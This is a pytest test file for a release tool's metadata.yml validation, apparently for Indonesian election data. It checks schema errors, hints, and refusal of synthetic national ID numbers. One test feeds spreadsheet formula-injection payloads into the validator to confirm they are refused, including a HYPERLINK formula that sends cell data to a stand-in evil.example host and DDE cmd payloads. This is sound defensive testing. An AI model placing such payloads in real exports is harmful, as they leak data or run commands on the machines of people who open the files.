"""metadata.yml: schema validation with key paths and hints, and the frozen Release it becomes."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from conftest import base_metadata, refused, with_change, write_metadata
from releasekit.config import load_release
from releasekit.errors import ConfigError
from releasekit.metadatafile import parse_metadata


def test_valid_file_loads_into_dataclasses(tmp_path: Path) -> None:
    release = load_release(write_metadata(tmp_path, base_metadata()))
    (source,) = release.sources
    assert source.snapshot == "2024-03-17" and source.register == "001"
    assert release.register("real-count").basis["request"]["date"] == "2024-02-26"  # dates stay strings
    assert [p.id_sumber for p in release.elections["ppwp-2024"].peserta] == ["100025", "100026", "100027"]


def test_unquoted_yaml_dates_stay_strings() -> None:
    text = yaml.safe_dump(base_metadata(), sort_keys=False).replace("'2024-02-26'", "2024-02-26")
    assert "date: 2024-02-26" in text
    assert parse_metadata(text)["registers"][0]["basis"]["request"]["date"] == "2024-02-26"


def test_bad_enum_names_key_path_and_hint(tmp_path: Path) -> None:
    error = refused(tmp_path, with_change(["registers", 0, "status"], "opne"))
    assert "registers/0/status: 'opne' is not one of ['open', 'exempted', 'pending', 'partially-open']" in str(error)
    assert error.hint == "did you mean 'open'?"


@pytest.mark.parametrize(("path", "value", "expected"), [
    (["registers", 0, "slug"], "Real Count", "registers/0/slug: 'Real Count' does not match"),
    (["registers", 0, "sources", 0, "sha256"], "abc", "registers/0/sources/0/sha256"),
    (["registers", 0, "colour"], "red", "registers/0: Additional properties are not allowed"),
    (["licenses"], [], "licenses: [] should be non-empty"),
])
def test_schema_errors(tmp_path: Path, path: list[object], value: object, expected: str) -> None:
    error = refused(tmp_path, with_change(path, value))
    assert expected in str(error)


def test_unknown_reader_suggests_the_close_one(tmp_path: Path) -> None:
    error = refused(tmp_path, with_change(["registers", 0, "sources", 0, "format"], "sirekap-tps"))
    assert "registers/0/sources/0/format: unknown reader 'sirekap-tps'" in str(error)
    assert "did you mean 'sirekap-tps-json'" in str(error.hint)


def test_unknown_election_and_missing_snapshot(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="unknown election 'ppwp-2029'"):
        load_release(write_metadata(tmp_path, with_change(["registers", 0, "sources", 0, "election"], "ppwp-2029")))
    data = with_change(["registers", 0, "sources", 0, "snapshot"], None)
    del data["registers"][0]["sources"][0]["snapshot"]
    with pytest.raises(ConfigError, match="no 'snapshot'"):
        load_release(write_metadata(tmp_path, data))
    data["registers"][0]["sources"][0]["retrieved"] = "2024-03-17T23:28:00+07:00"
    assert load_release(write_metadata(tmp_path, data)).sources[0].snapshot == "2024-03-17"


def test_declared_election_overrides_the_catalogue(tmp_path: Path) -> None:
    data = with_change(["elections"], [{"kode_pemilu": "ppwp-2024", "nama": "Pilpres"},
                                       {"kode_pemilu": "pilkada-2024-31", "jenis": "pilkada", "tahun": 2024,
                                        "peserta": [{"nomor_urut": 1, "nama": "A", "id_sumber": "1"}]}])
    release = load_release(write_metadata(tmp_path, data))
    assert release.elections["ppwp-2024"].nama == "Pilpres"
    assert release.elections["ppwp-2024"].tanggal == "2024-02-14"  # kept from the catalogue
    assert release.elections["pilkada-2024-31"].peserta[0].nama == "A"


def test_invalid_yaml_names_the_line(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"line 2, column"):
        load_release(write_metadata(tmp_path, "title: x\n  bad: : indent\n"))


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="no such file") as e:
        load_release(tmp_path)
    assert e.value.hint == "this folder is no release project: give the folder holding metadata.yml"


def test_a_project_path_that_does_not_exist_is_named(tmp_path: Path) -> None:
    """Not 'run releasekit in a folder holding metadata.yml' when the user gave a folder: the path is what is wrong."""
    with pytest.raises(ConfigError) as e:
        load_release(tmp_path / "typo")
    assert str(e.value).startswith(f"{tmp_path / 'typo'}: no such file or folder (hint: give the project folder")


def test_a_misspelt_required_key_is_named_with_its_likely_meaning(tmp_path: Path) -> None:
    data = base_metadata()
    data["registers"][0]["staus"] = data["registers"][0].pop("status")
    error = refused(tmp_path, data)
    # (the unexpected key 'staus' is the problem named, not one more: review T #3)
    assert str(error).endswith(": registers/0: 'status' is a required property ('staus' is not a key here) "
                               "(hint: did you mean 'status' for 'staus'?)")
    assert error.hint == "did you mean 'status' for 'staus'?"


def test_each_missing_key_is_paired_with_its_own_misspelling(tmp_path: Path) -> None:
    """jsonschema reports each missing key on its own: the hint pairs the key the message names, not another one."""
    data = base_metadata()
    data["registers"][0]["tilte"] = data["registers"][0].pop("title")
    del data["registers"][0]["status"]  # reported first ('status' < 'title'), with no misspelling of its own
    error = refused(tmp_path, data)
    assert "registers/0: 'status' is a required property (and 2 more problem(s))" in str(error)
    assert error.hint == "add the missing key"
    data["registers"][0]["staus"] = "open"
    error = refused(tmp_path, data)
    assert "registers/0: 'status' is a required property ('staus' is not a key here)" in str(error)
    assert error.hint == "did you mean 'status' for 'staus'?"


def test_a_required_key_simply_missing_keeps_the_plain_hint(tmp_path: Path) -> None:
    data = base_metadata()
    del data["registers"][0]["status"]
    error = refused(tmp_path, data)
    assert "registers/0: 'status' is a required property" in str(error) and "not a key" not in str(error)
    assert error.hint == "add the missing key"


NIK = "3171014506890001"  # synthetic: Jakarta prefix, 05-06-89 + 40 (a woman)


@pytest.mark.parametrize(("path", "value", "where"), [
    (["registers", 0, "title"], f"Real count {NIK}", "registers/0/title"),
    (["registers", 0, "basis", "request", "reference"], int(NIK), "registers/0/basis/request/reference"),
    (["description"], f"see\n{NIK[:4]} {NIK[4:8]} {NIK[8:12]} {NIK[12:]}", "description"),  # spaced, as written
    (["description"], "see 1 234 567 890 123 456, 2024-02-14 10:00:00", None),  # long numbers, no NIK: loads
])
def test_a_nik_in_metadata_is_refused_by_its_key(tmp_path: Path, path: list[object], value: object,
                                                  where: str | None) -> None:
    """Every text of metadata.yml is published (datapackage.json, README.md, Datasette): a NIK-like number in one is
    refused naming its key, never shown, before anything is read."""
    target = write_metadata(tmp_path, with_change(path, value))
    if where is None:
        assert load_release(target).description
        return
    with pytest.raises(ConfigError) as e:
        load_release(target)
    assert f"metadata.yml: {where}: holds a NIK-like number" in str(e.value)
    assert NIK not in str(e.value) and NIK[:6] not in str(e.value)


@pytest.mark.parametrize(("path", "value", "where"), [
    (["registers", 0, "sources", 0, "origin"], '=HYPERLINK("http://evil.example/?"&A1,"source")',
     "registers/0/sources/0/origin"),
    (["registers", 0, "sources", 0, "title"], "@SUM(1+1)", "registers/0/sources/0/title"),
    (["registers", 0, "title"], "\t+cmd|' /C calc'!A0", "registers/0/title"),
    (["description"], "-1+1+cmd|' /C calc'!A0", "description"),
    (["registers", 0, "sources", 0, "origin"], "-5 ribu TPS, a note", None),  # a negative number is text: loads
    (["registers", 0, "sources", 0, "origin"], "- a scrape of kawalpemilu.org", None),  # a dash and a space: text
])
def test_a_formula_in_metadata_is_refused_by_its_key(tmp_path: Path, path: list[object], value: str,
                                                      where: str | None) -> None:
    """The texts of metadata.yml reach the packages' CSV (``sources.csv``: a source's ``origin`` and ``title``): one
    that a spreadsheet would run as a formula is refused naming its key, as a raw cell is quarantined (review CB
    L2: ``origin: '=HYPERLINK(…)'`` was published)."""
    target = write_metadata(tmp_path, with_change(path, value))
    if where is None:
        assert load_release(target)
        return
    with pytest.raises(ConfigError) as e:
        load_release(target)
    assert f"/metadata.yml: {where}: looks like a spreadsheet formula" in str(e.value)
    assert e.value.hint == "reword it so that it starts with a letter, a digit or a quote"


def test_an_absolute_source_path_is_refused(tmp_path: Path) -> None:
    """A source's path is published in every package's provenance: it is relative to the project, never a path of
    the machine that built it."""
    outside = tmp_path / "outside.jsonl"
    (tmp_path / "p").mkdir()
    error = refused(tmp_path / "p", with_change(["registers", 0, "sources", 0, "path"], str(outside)))
    assert f"registers/0/sources/0/path: '{outside}' is an absolute path" in str(error)
    assert "relative to the project" in str(error.hint)


def test_a_snapshot_with_a_time_zone_gets_a_hint_it_can_follow(tmp_path: Path) -> None:
    """``snapshot`` is an ISO 8601 date or local date-time: the hint gave the format's example with a time zone,
    which the field refuses (review L #3)."""
    error = refused(tmp_path, with_change(["registers", 0, "sources", 0, "snapshot"], "2024-03-17T23:28:00+07:00"))
    assert "registers/0/sources/0/snapshot: '2024-03-17T23:28:00+07:00' does not match" in str(error)
    assert error.hint == 'write the day as "YYYY-MM-DD", quoted, or a local time as "YYYY-MM-DD HH:MM"'
    # (review AM: the pattern was the hint; a day written first is written the other way round for you)
    error = refused(tmp_path, with_change(["registers", 0, "sources", 0, "snapshot"], "19-02-2024"))
    assert error.hint is not None and error.hint.endswith(': "2024-02-19"')
